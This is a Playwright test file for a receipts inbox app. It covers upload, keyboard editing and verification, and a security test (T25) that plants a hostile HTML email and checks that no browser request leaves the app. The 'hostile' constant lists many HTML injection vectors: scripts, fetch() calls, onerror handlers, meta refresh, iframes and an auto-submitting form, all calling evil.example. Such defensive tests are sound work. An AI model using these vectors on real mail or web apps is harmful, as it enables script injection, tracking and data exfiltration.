import { setTimeout as pause } from 'node:timers/promises'
import type { Page } from '@playwright/test'
import { picture } from '#platform/server/documents/sample-pictures.ts'
import { toMime } from '../harness/mime.ts'
import { desktopOnly, expect, expectNoAxeFindings, expectNoHorizontalScroll, test } from './fixtures.ts'
import { expectToast } from './toast.ts'

const emails = (page: Page) => page.getByRole('list', { name: 'Processed Emails' })
const email = (page: Page, subject: string) => emails(page).getByRole('button', { name: subject })
const details = (page: Page) => page.getByRole('region', { name: 'Email Details' })

test(
  'staff upload a receipt, see where it was read, correct and verify it by keyboard',
  desktopOnly,
  async ({ page, app, signInAs }) => {
    test.slow()
    await signInAs('director')
    await page.goto('/receipts')
    await expect(page.getByText('receipts@localhost')).toBeVisible()
    await expect(email(page, 'Your receipt from Corner Market Inc.').first()).toContainText('Receipt')
    await expect(page.getByText('Select an email to view details')).toBeVisible()
    await expectNoAxeFindings(page)

    await page.getByRole('button', { name: 'Upload receipts' }).click()
    const input = page.getByRole('dialog').locator('input[type=file]')
    await input.setInputFiles({ name: 'setup.exe', mimeType: 'application/octet-stream', buffer: Buffer.from('MZ') })
    await expect(page.getByRole('alert')).toHaveText(/^setup.exe is not supported/)
    const jpeg = await picture(['Lumen Coffee Company', 'Date: 2026-11-20', 'Coffee for 12   $36.00', 'Total   $36.00'])
    await input.setInputFiles({ name: 'till.jpg', mimeType: 'image/jpeg', buffer: jpeg })
    await expectToast(page, { title: '1 file uploaded', message: 'They are being read.' })
    await app.settled()

    await email(page, 'till.jpg').click()
    await expect(details(page)).toContainText('till.jpg')
    const receipt = page.getByRole('region', { name: 'Lumen Coffee Company' })
    await receipt.getByRole('button', { name: /^Total amount/ }).focus()
    await expectNoAxeFindings(page)
    await expectNoHorizontalScroll(page)

    await page.keyboard.press('e')
    await receipt.getByLabel('Notes').fill('For demo day')
    // People who work by keyboard do not wait for the list to reload.
    await page.route('**/api/receipts/emails*', async (route) => {
      await pause(3_000)
      await route.continue()
    })
    await page.getByRole('button', { name: 'Save Changes' }).click()
    await expectToast(page, { title: 'Receipt updated', message: 'Your changes have been saved.' })
    await page.keyboard.press('v')
    await expectToast(page, {
      title: 'Receipt Verified',
      message: 'The receipt data has been marked as verified.',
    })
    await expect(receipt).toContainText('Verified by')
    await page.unrouteAll({ behavior: 'wait' })
    await page.keyboard.press('j')
    await expect(details(page)).toContainText('Corner Market Inc.')
    await expect(details(page)).toContainText('SPF pass, DKIM pass, DMARC pass')

    await page.getByRole('button', { name: 'Delete', exact: true }).click()
    await expectToast(page, { title: 'Email deleted' })
    await page.getByRole('button', { name: 'Trash (1)' }).click()
    await page.getByRole('button', { name: /^Restore/ }).click()
    await expectToast(page, { title: 'Email restored' })
    await page.getByRole('tab', { name: 'Totals' }).click()
    await expect(page.getByRole('list', { name: 'Spent by category' })).toContainText('Meals')
    await expect(page.getByText('EUR, 1 receipt')).toBeVisible()
    await expectNoAxeFindings(page)
  },
)

const evil = 'https://evil.example'
const hostile = `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
<link rel="stylesheet" href="${evil}/style.css"><link rel="preload" as="image" href="${evil}/preload.png">
<style>@import url(${evil}/import.css); body { background: url(${evil}/body.png) }</style>
<script src="${evil}/script.js"></script><script>fetch('${evil}/fetch')</script>
<img src="${evil}/pixel.gif" width="1" height="1" onerror="fetch('${evil}/error')"><img srcset="${evil}/one.png 1x, ${evil}/two.png 2x">
<picture><source srcset="${evil}/source.png"><img src="data:image/gif;base64,R0lGOD"></picture>
<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}/svg.png"/><use href="${evil}/use.svg#a"/><script>fetch('${evil}/svg')</script></svg>
<iframe src="${evil}/frame" srcdoc="<img src=${evil}/srcdoc.png>"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
<video poster="${evil}/poster.png" src="${evil}/video.mp4"></video><audio src="${evil}/audio.mp3" autoplay></audio>
<form action="${evil}/form"><input autofocus onfocus="this.form.submit()"><input type="image" src="${evil}/input.png"></form>
<p style="background:url(${evil}/background)">Hostile Shop</p><p>Date: 2026-11-20</p><p>Total $5.00</p><p>Paid by Visa</p>`

test(
  'a hostile email is shown as text: nothing leaves the browser (T25)',
  desktopOnly,
  async ({ page, app, signInAs }) => {
    const raw = toMime({
      headers: { From: 'x@example.com', Subject: '<img src=https://evil.example/subject>' },
      parts: [{ type: 'text/html; charset=utf-8', content: hostile }],
    })
    const director = await app.signIn('director')
    const form = new FormData()
    form.append('files', new Blob([raw]), 'hostile.eml')
    const { status } = await director.send('POST', '/api/receipts/upload', { raw: form })
    expect(status).toBe(201)
    await app.settled()

    // All requests of the browser, whatever frame or worker they come from.
    const outside: string[] = []
    page.context().on('request', (request) => {
      if (!request.url().startsWith(`${app.url}/`) && /^(?:https?|wss?):/.test(request.url()))
        outside.push(request.url())
    })
    await signInAs('director')
    await page.goto('/receipts')
    await email(page, '<img src=https://evil.example/subject>').click()
    await expect(page.getByRole('group', { name: 'Text of the email' })).toContainText('Hostile Shop')
    await expect(page.getByRole('region', { name: 'Hostile Shop' })).toContainText('$5.00')
    await page.goto('/receipts?tab=receipts&q=hostile')
    await expect(page.getByRole('region', { name: 'Hostile Shop' })).toContainText('$5.00')
    await page.waitForLoadState('networkidle')
    expect(outside).toEqual([])
    expect(page.url()).toContain('/receipts')
  },
)
